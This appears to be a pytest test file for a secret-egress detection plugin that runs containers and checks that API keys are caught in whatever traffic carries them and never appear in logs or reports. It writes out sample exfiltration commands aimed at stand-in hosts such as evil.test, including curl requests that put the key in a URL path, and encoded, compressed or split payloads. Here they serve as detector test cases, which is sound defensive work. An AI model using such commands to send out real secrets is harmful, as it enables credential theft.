"""`secret()` in real containers: it is found wherever it leaves, and is on no terminal and in no file."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from pytest_egress import (
    CallError,
    Egress,
    LeakError,
    Request,
    WebSocket,
    forward,
    grpc_server,
    secret,
    smtp,
    websocket,
)
from pytest_egress.session import Session
from tests.support.greeter import pb, pb_grpc
from tests.support.inner_runs import Inside
from tests.support.secrets import forgotten  # noqa: F401
from tests.support.upstreams import tcp_server

pytestmark = pytest.mark.usefixtures("forgotten")  # what runs inside makes some, too

KEY = "Kx7/hQ2v+R9xLm4Zp8Wd3&Ns6"
INNER = f"""
import os
import pytest
from pytest_egress import Response, secret

CLIENT = "curl -sSL -H \\"X-Api-Key: $API_KEY\\" https://api.test/charge"

@pytest.mark.parametrize("word", [secret("{KEY}", "api.test")])
def test_a(egress, image, word):
    env = {{"API_KEY": word}}
    egress.intercept_https("api.test", Response(302, headers={{"Location": "https://evil.test/"}}))
    egress.intercept_https("evil.test")
    print(word)
    egress.run(image, ["sh", "-c", CLIENT], env=env)

def test_b(egress, image):
    key = secret("{KEY}")
    egress.run(image, ["true"], env={{"API_KEY": key}})
    assert key == "{KEY}x"

def test_c(egress, image):
    egress.block("evil.test")
    egress.run(image, ["sh", "-c", "curl https://evil.test/$API_KEY; true"], env={{"API_KEY": secret("{KEY}")}})
    assert not "what it has sent"
"""


def test_a_secret_that_follows_a_redirect_fails_its_test_and_is_shown_nowhere(
    inside: Inside, pytester: pytest.Pytester
) -> None:
    run = inside(INNER, "-v", "--junitxml=junit.xml", "--showlocals", "-o", "junit_logging=all")
    text = run.report("test_a[word]").longreprtext
    assert "GET https://evil.test/ carries API_KEY in its header x-api-key" in text.lower().replace(
        "api_key", "API_KEY"
    ).replace("get ", "GET ")
    assert "evil.test:443 is none of its only=: api.test" in text
    assert run.report("test_b").failed
    leaked = run.report("test_c").longreprtext
    assert "assert not 'what it has sent'" in leaked
    assert "a container sent a secret where it must not" in leaked
    assert "carries API_KEY in its url path" in leaked
    assert "::test_c - GET https://evil.test/<API_KEY> carries" in run.output
    shown = [run.output, Path(pytester.path, "junit.xml").read_text(), str(run.reports)]
    parts = [KEY[at : at + 8] for at in range(len(KEY) - 7)]
    assert not [part for each in shown for part in parts if part in each]


@pytest.fixture
def own(forgotten: None) -> Iterator[Session]:  # noqa: F811
    with closing(Session()) as session:
        yield session


class Welcome(pb_grpc.GreeterServicer):  # type: ignore[misc]  # made by protoc, without types
    """Answers every call."""

    def Unary(self, request: Any, context: Any) -> Any:
        return pb.Reply(text="hello")


def echo(ws: WebSocket) -> None:
    for message in ws:
        ws.send(message)


REQUESTS = """
{ printf %s "$API_KEY"; head -c 300000 /dev/zero; } | gzip | curl -sS -T- -H 'Content-Encoding: gzip' https://up.test/
curl -sS -u "joe:$API_KEY" http://clear.test/
curl -sS -G --data-urlencode "k=$API_KEY" https://own.test/
curl -sS -H "X-Key: $API_KEY" https://own.test/
curl -sS -d "k=$API_KEY" https://blocked.test/
true
"""
MAIL = """
import os, smtplib, ssl
from email.message import EmailMessage

mail = EmailMessage()
mail["From"], mail["To"] = "a@x.test", "b@x.test"
mail.set_content("see the file")
mail.add_attachment(b"." * 100 + os.environb[b"API_KEY"], "application", "octet-stream")
with smtplib.SMTP("mail.test", 587) as client:
    client.user, client.password = "joe", os.environ["API_KEY"]
    client.ehlo()
    client.auth("plain", client.auth_plain)
    client.starttls(context=ssl.create_default_context())
    client.send_message(mail)
"""
UNARY = """
import grpc, os, greeter_pb2 as pb, greeter_pb2_grpc as pb_grpc
key = os.environ["API_KEY"]
with grpc.secure_channel("greet.test:443", grpc.ssl_channel_credentials()) as channel:
    metadata = [("x-trace-bin", key.encode())]
    pb_grpc.GreeterStub(channel).Unary(pb.Hello(name="of " + key), metadata=metadata)
"""
CHAT = """
import os, socket
import websockets.sync.client as client
key = os.environ["API_KEY"]
with client.connect("ws://chat.test/") as ws:
    ws.send(key.encode().hex())
    ws.recv()
with socket.create_connection(("db.test", 5432)) as db:
    for each in [b"." * 200, key.encode()[:9], key.encode()[9:], b"." * 200]:
        db.sendall(each)
    db.shutdown(socket.SHUT_WR)
    db.recv(1)
"""


def read_out(sock: socket.socket) -> None:
    """A server that reads all: one that closes before has its client reset, which overtakes what that sends."""
    while sock.recv(65_536):
        pass


def upload(request: Request) -> None:
    for _ in request.raw_stream():
        pass


def test_a_secret_is_found_in_whatever_carries_it(
    own: Session,
    clients_image: str,
    services_image: str,
    grpc_image: str,
    websocket_image: str,
) -> None:
    env = {"API_KEY": secret(KEY, ["own.test", "mail.test"])}
    egress = Egress(session=own)
    servicer = (pb_grpc.add_GreeterServicer_to_server, Welcome())

    def attempt() -> None:
        with tcp_server(read_out) as port, egress:
            egress.intercept_https("up.test", upload, stream=True)
            egress.intercept_http("clear.test")
            egress.intercept_https("own.test")
            egress.block("blocked.test")
            egress.intercept_tcp("mail.test:587", smtp())
            egress.intercept_https("greet.test", grpc_server(servicer))
            egress.intercept_http("chat.test", websocket(echo))
            egress.intercept_tcp("db.test", forward(f"tcp://127.0.0.1:{port}"))
            egress.run(clients_image, ["sh", "-c", REQUESTS], env=env)
            egress.run(services_image, ["python3", "-c", MAIL], env=env)
            egress.run(grpc_image, ["python3", "-c", UNARY], env=env)
            egress.run(websocket_image, ["python3", "-c", CHAT], env=env)

    with pytest.raises(LeakError) as caught:
        attempt()
    lines = [line.strip() for line in str(caught.value).splitlines()]
    assert [
        line.replace(" carries API_KEY in its ", ": ") for line in lines if "carries" in line
    ] == [
        "PUT https://up.test/: body",
        "GET http://clear.test/: header Authorization, in base64",
        "GET https://own.test/?k=<API_KEY>: url query 'k'",
        "POST https://blocked.test/: body",
        "TCP mail.test:587 (fd00:198:18::1): bytes before TLS, in base64",
        "gRPC https://greet.test/greet.v1.Greeter/Unary: header x-trace-bin, in base64",
        "gRPC https://greet.test/greet.v1.Greeter/Unary: metadata x-trace-bin",
        "gRPC https://greet.test/greet.v1.Greeter/Unary: message 0: name",
        "GET http://chat.test/: message 0, in hex",
        "TCP db.test:5432 (fd00:198:18::2): bytes",
    ]


WEAK = """
curl -sS http://clear.test/
curl -sS https://own.test/
curl -sS --tls-max 1.2 https://real.test/
true
"""


def test_what_is_not_encrypted_well_is_listed(egress: Egress, clients_image: str) -> None:
    egress.intercept_http("clear.test")
    egress.intercept_https("own.test")
    with tcp_server(lambda sock: sock.sendall(sock.recv(1))) as port:
        egress.intercept_tcp("real.test", forward(f"tcp://127.0.0.1:{port}"))
        egress.run(clients_image, ["sh", "-c", WEAK])
    with pytest.raises(CallError) as caught:
        egress.assert_encrypted("TLSv1.3")
    lines = str(caught.value).splitlines()
    assert lines[1] == "  GET http://clear.test/  in the clear"
    assert lines[2].startswith("  TCP real.test:443")
    assert lines[2].endswith("TLSv1.2 at most is offered by OpenSSL")
    assert len(lines) == 4
    egress.assert_encrypted(allow=["clear.test:80"])
